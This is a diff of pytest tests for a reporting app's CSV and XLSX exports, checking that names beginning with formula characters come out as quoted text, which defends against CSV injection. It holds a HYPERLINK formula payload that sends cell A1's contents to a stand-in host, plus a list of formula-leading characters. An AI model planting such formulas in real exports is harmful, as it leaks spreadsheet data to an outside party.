@@ -7,9 +7,9 @@ from datetime import date, timedelta
 import pytest
 from sqlalchemy import select
 
-from mpp_app.reports import charts
+from mpp_app.reports import charts, export
 from mpp_app.domain import reports, tickets
-from mpp_app.models import Ticket
+from mpp_app.models import Counter, Ticket
 
 from .conftest import MONDAY, agency_by_code, at, user
 
@@ -117,3 +117,44 @@ def test_officer_sees_only_own_agency(staff, session, desk):
     page = other.get("/reports/?start=2026-11-30&end=2026-11-30&agency=DUKCAPIL").get_data(as_text=True)
     assert 'data-figure="issued">0<' in page
     assert "Tidak ada tiket pada periode ini" in other.get("/reports/today").get_data(as_text=True)
+
+
+# OWASP CSV injection: what Excel or LibreOffice would take for a formula, or strip before looking.
+FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r"]
+PAYLOAD = 'HYPERLINK("http://example.invalid/?x="&A1,"klik")'
+
+
+@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_exports_write_names_a_spreadsheet_would_run_as_quoted_text(staff, session, desk, lead):
+    from openpyxl import load_workbook
+
+    desk(at(8, 0), at(8, 10), at(8, 11), at(8, 21))
+    name = lead + PAYLOAD
+    dukcapil = agency_by_code(session, "DUKCAPIL")
+    # Set directly: the admin forms would strip a leading tab or CR, older rows or the CLI need not.
+    dukcapil.short_name = dukcapil.services[0].name = session.get(Counter, 1).name = name
+    user(session, "petugas").full_name = name
+    session.commit()
+    manager = staff.login("manager")
+    for group in reports.GROUPS:  # agency, service, counter and officer rows each carry the name
+        query = f"start=2026-11-30&end=2026-11-30&by={group}"
+        text = manager.get(f"/reports/export.csv?{query}").get_data().decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert rows[2][:3] == ["'" + name, "1", "1"], group
+        assert not [cell for row in rows for cell in row if cell.startswith(tuple(FORMULA_LEADS))], group
+
+        book = load_workbook(io.BytesIO(manager.get(f"/reports/export.xlsx?{query}").get_data()))
+        performance = book["Kinerja"]
+        # The XML of the file turns a carriage return into a line feed when read back.
+        assert performance["A3"].value == "'" + name.replace("\r", "\n") and performance["A3"].data_type == "s"
+        assert performance["B3"].value == 1 and performance["B3"].data_type == "n"  # numbers stay numbers
+        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], group
+        assert not [cell.value for cell in cells if isinstance(cell.value, str)
+                    and cell.value.startswith(tuple(FORMULA_LEADS))], group
+
+
+def test_export_cell_rule_leaves_numbers_and_plain_text_alone():
+    assert [export.cell(value) for value in (-3, -2.5, 0, "", "Dukcapil", "'=1", "a=b", date(2026, 11, 30))] == [
+        -3, -2.5, 0, "", "Dukcapil", "'=1", "a=b", date(2026, 11, 30)]
+    assert [export.cell(lead + "1") for lead in FORMULA_LEADS] == ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1"]
